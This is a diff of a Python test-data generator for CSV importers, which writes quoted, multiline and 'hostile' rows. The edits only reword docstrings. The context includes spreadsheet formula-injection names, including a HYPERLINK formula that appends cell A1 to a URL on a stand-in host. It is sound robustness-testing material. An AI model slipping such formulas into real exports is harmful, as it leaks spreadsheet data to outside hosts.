@@ -1,4 +1,4 @@
-"""Own the unusual rows that are good all the same: quoted, of several lines, or at the edge of what is allowed."""
+"""Unusual good rows: quoted, over several lines, or at the limits of what is allowed."""
 
 from random import Random
 
@@ -17,7 +17,7 @@ _NOTES = (
     "black, not white\nsee offer 4711",
 )
 
-# Text that has broken other people's importers, spreadsheets, log files and web pages; all of it may be a name.
+# Texts that have broken importers, spreadsheets, log files and web pages. All are valid names.
 HOSTILE_NAMES = (
     "=SUM(1)",
     '=HYPERLINK("https://example.com/?"&A1,"Invoice")',
@@ -76,7 +76,7 @@ _HOSTILE_PRICES = ("0", "0.0001", "9999999.9999", "9999999", " 12.5 ", "0.00", "
 
 
 def quoted(cells: list[str], rng: Random, shape: Shape) -> str:
-    """Write a row with quotes that it needs, for a delimiter or quotes inside a cell, or that it could do without."""
+    """Write a row with quotes, needed for a delimiter or quotes in a cell, or not needed."""
     order_id, customer, product, quantity, unit_price = cells
     kind = rng.getrandbits(2)
     if kind == 0:
@@ -89,7 +89,7 @@ def quoted(cells: list[str], rng: Random, shape: Shape) -> str:
 
 
 def multiline(cells: list[str], rng: Random, shape: Shape) -> str:
-    """Write a row in which the customer's or the product's cell has line breaks, an empty line among them."""
+    """Write a row with line breaks, one of them an empty line, in the customer's or the product's cell."""
     order_id, customer, product, quantity, unit_price = cells
     if rng.getrandbits(1):
         customer = f"{customer}\n{rng.choice(_ADDRESSES)}".replace("\n", shape.line_end)
@@ -99,7 +99,7 @@ def multiline(cells: list[str], rng: Random, shape: Shape) -> str:
 
 
 def hostile(cells: list[str], rng: Random, shape: Shape) -> str:
-    """Write a row that is good, and whose cells look like formulas, markup, numbers or empty values."""
+    """Write a good row with cells that look like formulas, markup, numbers or empty values."""
     order_id, customer, product, quantity, unit_price = cells
     kind = rng.getrandbits(2)
     if kind == 0:
